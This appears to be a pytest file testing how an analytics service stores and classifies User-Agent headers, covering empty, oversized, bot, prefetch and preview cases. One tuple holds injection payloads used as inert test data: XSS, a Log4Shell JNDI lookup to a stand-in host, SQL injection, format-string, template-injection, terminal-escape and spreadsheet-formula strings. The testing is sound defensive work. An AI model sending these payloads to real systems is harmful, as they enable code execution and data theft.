"""K. User agents (catalogue 150 to 156)."""

from __future__ import annotations

import time

import pytest

from analytics.enrich import bots
from analytics.events import Limits
from tests import shared
from tests.hostile.running import CHROME, PROMPT_SECONDS, Pool

pytestmark = pytest.mark.flow
BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


@pytest.mark.parametrize("agent", ["", "-", " ", "--"], ids=["150-empty", "150-dash", "150-blank", "150-dashes"])
def test_who_says_nothing_is_no_browser(pool: Pool, agent: str) -> None:
    row = pool.one({"User-Agent": agent})
    assert isinstance(row, dict)
    assert (row["category"], row["browser"], row["os"]) == ("library", "", "")


def test_150_a_request_without_a_user_agent_is_stored(pool: Pool) -> None:
    body = b'{"site":"example.com","events":[{"name":"x","url":"/without-a-user-agent"}]}'
    (answer,) = pool.raw(
        b"POST /v1/events HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    )
    assert answer.status == 202
    assert [hit["user_agent"] for hit in pool.hits("/without-a-user-agent")] == [""]


@pytest.mark.parametrize(
    "agent",
    [
        pytest.param("a" * 8000, id="152-one-letter"),
        pytest.param("(" * 8000, id="152-brackets"),
        pytest.param("Mozilla/5.0 " * 600, id="152-mozilla"),
        pytest.param("Android " * 900, id="152-android"),
        pytest.param("; " * 4000, id="152-semicolons"),
        pytest.param("bot" * 2600, id="152-bot"),
        pytest.param("1." * 4000, id="152-versions"),
        pytest.param(CHROME + " " * 7000 + "x", id="152-blanks"),
    ],
)
def test_a_user_agent_is_clipped_and_costs_no_time(pool: Pool, agent: str) -> None:
    began_at = time.monotonic()
    rows = pool.ones([{}] * 50, {"User-Agent": agent})
    assert time.monotonic() - began_at < PROMPT_SECONDS
    assert {row["user_agent"] for row in rows if isinstance(row, dict)} == {agent.strip()[: Limits.USER_AGENT_CHARS]}


def test_151_a_hundred_kilobytes_of_user_agent_are_no_header(pool: Pool) -> None:
    assert pool.send({"name": "x"}, headers={"User-Agent": "a" * 100_000}).status == 431
    row = pool.one(user_agent=CHROME + "x" * 10_000)
    assert isinstance(row, dict)
    assert len(row["user_agent"]) == Limits.USER_AGENT_CHARS


INERT = (
    "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "%n%s%x", "\x1b[2J\x1b]0;x\x07", "' OR 1=1 --",
    "{{7*7}}", "=HYPERLINK(1)", "\\", '"', "\u202e",
)  # fmt: skip


@pytest.mark.parametrize("text", INERT, ids=lambda text: f"154-{text[:12]!a}")
def test_what_a_user_agent_says_is_stored_and_does_nothing(pool: Pool, text: str) -> None:
    row = pool.one(user_agent=f"{CHROME} {text}")
    assert isinstance(row, dict)
    assert row["user_agent"] == f"{CHROME} {text}"
    assert row["browser"] == "Chrome"


def test_153_every_known_bot_is_left_out_and_every_browser_counted(pool: Pool) -> None:
    agents = [
        agent
        for entry in shared.read_json("data/bots_well_known/well-known-bots.json")
        for agent in entry["instances"]["accepted"]
    ]
    found = [
        row["category"] if isinstance(row, dict) else row for row in pool.ones([{"user_agent": one} for one in agents])
    ]
    assert found.count("") / len(found) < 0.02
    people: list[str] = shared.read_json("data/ua_top/index.json")
    assert len(people) > 20
    assert {row["category"] for row in pool.ones([{"user_agent": one} for one in people]) if isinstance(row, dict)} == {
        ""
    }


def test_153_the_whole_corpus_of_the_user_agent_parser_is_stored(pool: Pool) -> None:
    cases = [case["user_agent_string"] for case in shared.read_yaml("data/uap_core/test_ua.yaml")["test_cases"]]
    assert len(cases) > 1500
    rows = pool.ones([{"user_agent": agent} for agent in cases])
    assert all(isinstance(row, dict) for row in rows)
    assert [row["category"] for row in rows if isinstance(row, dict)] == [
        bots.classify(agent.strip()[: Limits.USER_AGENT_CHARS]) or "" for agent in cases
    ]


@pytest.mark.parametrize(
    ("headers", "category"),
    [
        pytest.param({"Sec-Purpose": "prefetch"}, "prefetch", id="156-sec-purpose"),
        pytest.param({"Sec-Purpose": "prefetch;prerender"}, "prefetch", id="156-prerender"),
        pytest.param({"Purpose": "prefetch"}, "prefetch", id="156-purpose"),
        pytest.param({"Sec-Purpose": "x" * 5000}, "", id="156-nonsense"),
        pytest.param({"User-Agent": BOT}, "search-engine", id="156-search-engine"),
        pytest.param(
            {"User-Agent": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"}, "preview", id="156-slack"
        ),
        pytest.param({"User-Agent": "WhatsApp/2.23.20.0"}, "preview", id="156-whatsapp"),
        pytest.param({"User-Agent": CHROME.replace("Chrome/", "HeadlessChrome/")}, "headless", id="156-headless"),
        pytest.param({"User-Agent": "curl/8.5.0"}, "library", id="156-curl"),
        pytest.param({"Sec-CH-UA": '"Firefox";v="1"', "Sec-CH-UA-Platform": '"Plan 9"'}, "", id="155-hints-contradict"),
    ],
)
def test_who_is_no_person_is_stored_and_left_out(pool: Pool, headers: dict[str, str], category: str) -> None:
    row = pool.one(headers)
    assert isinstance(row, dict)
    assert row["category"] == category
